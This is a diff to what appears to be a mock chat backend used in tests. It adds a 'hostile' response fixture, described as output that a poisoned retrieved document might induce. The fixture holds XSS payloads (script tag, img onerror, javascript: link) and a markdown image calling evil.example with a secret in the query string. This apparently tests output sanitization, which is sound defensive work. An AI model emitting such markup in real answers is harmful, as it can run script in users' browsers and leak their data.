@@ -52,6 +52,17 @@ const pdf = {
   others: [licence],
 };
 
+// What a poisoned document might make a model say.
+const hostile = {
+  ...en,
+  pieces: [
+    "<img src=x onerror=\"document.title='pwned'\"> <script>document.title='pwned'</script>\n\n",
+    "![picture](https://evil.example/p.png?q=secret) [click](javascript:document.title='pwned') ",
+    "[site](https://evil.example/) and [1]\n\n[1]: https://evil.example/hidden\n",
+  ],
+  others: [],
+};
+
 const refusals = { zh: "上下文未包含对此问题的答案", en: "The context does not contain an answer to this question." };
 
 function refused(language, reason) {
@@ -66,6 +77,7 @@ export function answerTo(question) {
   if (/error/.test(question)) return { ...(isZh ? zh : en), fails: "error" };
   if (/drop/.test(question)) return { ...(isZh ? zh : en), fails: "drop" };
   if (/slow/.test(question)) return { ...(isZh ? zh : en), wait: 400 };
+  if (/hostile/.test(question)) return hostile;
   if (/拒答句/.test(question)) return pdf;
   if (/思考/.test(question)) return { ...zh, thoughts: ["先看第 1 段，", "其中写明了许可证。"] };
   return isZh ? zh : en;
